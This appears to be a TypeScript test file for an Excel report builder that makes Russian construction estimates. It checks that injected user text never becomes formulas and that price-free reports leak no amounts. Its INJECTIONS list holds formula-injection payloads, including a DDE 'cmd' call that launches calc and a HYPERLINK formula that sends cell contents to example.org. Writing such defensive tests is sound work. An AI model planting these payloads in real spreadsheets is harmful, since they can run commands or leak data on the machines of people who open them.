import { ValueType } from '@cj-tech-master/excelts';
import { describe, expect, test } from 'vitest';
import { buildReport } from './build-report.ts';
import { anAgreementHead } from './samples/annex.fixtures.ts';
import { HEAD, NO_PARTY } from './samples/head.fixtures.ts';
import { makeDocument, sampleDocument, type PositionSeed } from './samples/report.fixtures.ts';
import { ALL_SECTIONS, allCells, openReport, partsOf, displayedValue } from './samples/report-reading.fixtures.ts';
import type { ReportDocument, ReportRow } from './report.types.ts';

const INJECTIONS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.org/?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '  =1+1',
  '{=1+1}',
  '=IMPORTXML("https://example.org","//a")',
  '"=1+1',
  '<f>1+1</f>',
  ']]>',
  '_x003D_1+1',
  '&amp;=1',
  '%0A=1',
];

/** A document with the text in every user-editable field. */
function documentWith(text: string): ReportDocument {
  const position: PositionSeed = {
    code: text,
    name: text,
    unit: text,
    quantity: '2',
    lines: [
      { kind: 'labour', code: text, name: text, unit: text, norm: '1', price: '10' },
      { kind: 'material', name: text, unit: text, norm: '1', price: null },
    ],
  };
  const document = makeDocument([{ number: text, name: text }, position, { ...position, handPrice: '5' }], {
    company: { ...NO_PARTY, name: text, inn: text, director_name: text, director_position: text },
    customer: { ...NO_PARTY, type: 'entrepreneur', name: text, inn: text },
    agreement: { ...anAgreementHead(HEAD, { before: '1.00', delta: '0.00' }), number: text, date: text },
    charges: [{ name: text, kind: 'other', percent: '1', base: 'all' }],
    project_code: text,
    project_name: text,
    address: text,
    contract_number: text,
    contract_date: text,
    number: text,
    name: text,
    date: text,
    status: text,
    norm_base: text,
    price_date: text,
    region: text,
    overhead_note: text,
  });
  return { ...document, rows: document.rows.map((row) => renumbered(row, text)) };
}

function renumbered(row: ReportRow, number: string): ReportRow {
  return row.kind === 'section' ? row : { ...row, number, lines: row.lines.map((line) => ({ ...line, number })) };
}

const OWN_FORMULA = /^(ROUND|IF|'Спецификация'!|E\d+$)/;

describe('user texts', () => {
  test.each(INJECTIONS.map((text) => [JSON.stringify(text), text]))('%s never become formulas', async (_, text) => {
    const plain = await buildReport(documentWith('обычный текст'), { sections: ALL_SECTIONS, with_prices: true });
    const bytes = await buildReport(documentWith(text), { sections: ALL_SECTIONS, with_prices: true });
    const workbook = await openReport(bytes);
    const formulas = allCells(workbook).filter(({ cell }) => cell.type === ValueType.Formula);
    expect(formulas.map(({ cell }) => cell.formula).filter((formula) => !OWN_FORMULA.test(formula ?? ''))).toEqual([]);
    expect(formulas).toHaveLength(
      allCells(await openReport(plain)).filter(({ cell }) => cell.type === ValueType.Formula).length,
    );
    expect(allCells(workbook).filter(({ cell }) => cell.type === ValueType.Hyperlink)).toEqual([]);
    for (const [, xml] of await partsOf(bytes))
      expect(xml).not.toMatch(/<f(?:\s[^>]*)?>[^<]*(cmd|HYPERLINK|IMPORTXML|1\+1)/);
  });

  test('text that looks like a formula is marked as text, also for later editing', async () => {
    const bytes = await buildReport(documentWith('=1+1'), { sections: ['specification'], with_prices: true });
    const cells = allCells(await openReport(bytes)).filter(({ cell }) => displayedValue(cell) === '=1+1');
    expect(cells.length).toBeGreaterThan(8);
    for (const { cell } of cells) expect([cell.type, cell.numFmt]).toEqual([ValueType.String, '@']);
    expect((await partsOf(bytes)).get('xl/styles.xml')).toMatch(/<xf numFmtId="49" quotePrefix="1"/);
  });

  test('an ampersand in a number does not become a footer command', async () => {
    const workbook = await openReport(
      await buildReport(sampleDocument({ number: '1&P&"Wingdings"' }), {
        sections: ['specification'],
        with_prices: true,
      }),
    );
    expect(workbook.worksheets[0]?.headerFooter.oddFooter).toContain('№ 1&&P&&"Wingdings" от');
  });

  test('very long and malformed texts do not break the file', async () => {
    for (const text of ['я'.repeat(40_000), '\uD800', 'a\u0008b', '😀'.repeat(300), 'строка\nвторая']) {
      const workbook = await openReport(
        await buildReport(documentWith(text), { sections: ALL_SECTIONS, with_prices: true }),
      );
      expect(workbook.worksheets).toHaveLength(4);
    }
  });
});

describe('a report without prices', () => {
  const priced = sampleDocument();
  const amounts = [
    ...Object.values(priced.totals).filter((value) => typeof value === 'string' && /^\d{2,}\.\d\d$/.test(value)),
    ...priced.rows.flatMap((row) =>
      row.kind === 'section'
        ? []
        : [row.price, row.total, row.overhead, row.profit, ...row.lines.flatMap((line) => [line.price, line.total])],
    ),
  ]
    .filter((amount) => amount !== null && amount !== '0.00')
    .map((amount) => String(Number(amount)));

  test('contains no amount in any part of the file, hidden or not', async () => {
    const bytes = await buildReport(priced, { sections: ALL_SECTIONS, with_prices: false });
    expect(new Set(amounts).size).toBeGreaterThan(30);
    const found = [...(await partsOf(bytes))].flatMap(([path, xml]) =>
      // A quantity may coincide with an amount, so amounts are searched with their surroundings.
      amounts
        .filter((amount) => amount.includes('.') && amount.length > 4 && xml.includes(amount))
        .map((amount) => `${path}: ${amount}`),
    );
    expect(found).toEqual([]);
  });

  test('has no column, sheet, word or money format, and nothing hidden', async () => {
    const bytes = await buildReport(priced, { sections: ALL_SECTIONS, with_prices: false });
    const workbook = await openReport(bytes);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual([
      'Спецификация',
      'Ресурсы',
      'Материалы',
      'Расходные материалы',
    ]);
    for (const { cell } of allCells(workbook))
      expect(String(displayedValue(cell))).not.toMatch(/₽|рубл|копе|Цена|Стоимость|НДС|Накладные|прибыль|нет цены/u);
    for (const sheet of workbook.worksheets) {
      expect(sheet.state).toBe('visible');
      sheet.eachRow((row) => expect(row.hidden).toBe(false));
      for (const column of sheet.columns) expect(column.hidden).toBe(false);
    }
    expect(workbook.worksheets[0]?.pageSetup.orientation).toBe('portrait');
  });

  test('does not depend on prices at all', async () => {
    const strip = async (document: ReportDocument) =>
      [...(await partsOf(await buildReport(document, { sections: ALL_SECTIONS, with_prices: false })))].filter(
        ([path]) => path.startsWith('xl/'),
      );
    const cheaper = {
      ...priced,
      totals: { ...priced.totals, gross: '1.00' },
      rows: priced.rows.map((row) =>
        row.kind === 'section'
          ? row
          : {
              ...row,
              price: row.is_hand_priced ? '1.11' : null,
              total: '2.22',
              overhead: '3.33',
              profit: '4.44',
              overhead_percent: '5',
              profit_percent: '6',
              lines: row.lines.map((line) => ({ ...line, price: line.price === null ? null : '7.77', total: null })),
            },
      ),
    };
    expect(await strip(cheaper)).toEqual(await strip(priced));
  });
});
